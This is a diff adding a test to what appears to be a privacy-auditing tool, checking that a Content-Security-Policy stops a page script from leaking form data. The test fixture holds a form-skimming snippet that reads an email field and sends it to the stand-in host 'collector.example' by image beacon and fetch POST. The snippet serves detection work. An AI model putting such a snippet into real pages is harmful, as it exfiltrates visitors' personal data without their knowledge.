@@ -314,3 +314,16 @@ test('a cookie that holds a value is seen on its way to the first party, and a r
   expect(filled.pageUrlsWithValues).toEqual([`https://www.mpro.org/?e=${value}`]);
   for (const spelling of spellings(value)) expect(raw.includes(spelling)).toBe(false);
 });
+
+test('what the site itself forbids its scripts to send is no attempt', async () => {
+  const script = `const email = document.querySelector('[name=email]');
+    email.addEventListener('blur', () => { const v = encodeURIComponent(email.value); if (v === '') return;
+      new Image().src = 'https://collector.example/forbidden?' + v;
+      fetch('https://collector.example/forbidden?' + v, { method: 'POST', body: email.value }).catch(() => undefined); });`;
+  const policy = { 'content-security-policy': "connect-src 'self'; img-src 'self'" };
+  const { filled } = await fillOn(({ path }) =>
+    path === '/' ? { ...formPage(form, script), headers: policy } : { body: 'ok' },
+  );
+  expect(filled.outcome).toEqual({ ok: true });
+  expect(filled.transmissions.filter(({ isSubmission }) => !isSubmission)).toEqual([]);
+});
